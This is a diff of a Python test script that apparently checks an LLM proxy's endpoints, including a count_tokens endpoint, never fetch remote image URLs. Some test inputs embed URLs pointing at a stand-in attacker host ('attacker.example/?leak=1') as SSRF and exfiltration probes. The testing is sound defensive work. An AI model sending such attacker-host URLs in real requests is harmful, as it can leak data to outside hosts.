@@ -33,6 +33,13 @@ out["previous_response"] = post("responses", {"model": "fake-gpt", "input": "x",
 out["server_tool"] = post("responses", {"model": "fake-gpt", "input": "x", "tools": [{"type": "web_search"}]})[0]
 out["image_url"] = chat([{"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": "http://attacker.example/?leak=1"}}])[0]
 
+# Free endpoints must not fetch either.
+c = http.client.HTTPConnection("127.0.0.1", 4000, timeout=30)
+c.request("POST", "/llm/anthropic/v1/messages/count_tokens", body=json.dumps({"model": "fake-claude", "messages": [{"role": "user", "content": [
+    {"type": "image", "source": {"type": "url", "url": "http://attacker.example/?d=1"}}]}]}),
+    headers={"x-api-key": KEY, "content-type": "application/json", "anthropic-version": "2023-06-01"})
+out["count_tokens_url"] = c.getresponse().status
+
 # stream_options that is not an object must not keep usage away.
 c = http.client.HTTPConnection("127.0.0.1", 4000, timeout=30)
 c.request("POST", "/llm/openai/v1/chat/completions", body=json.dumps({"model": "fake-gpt", "stream": True, "stream_options": None,
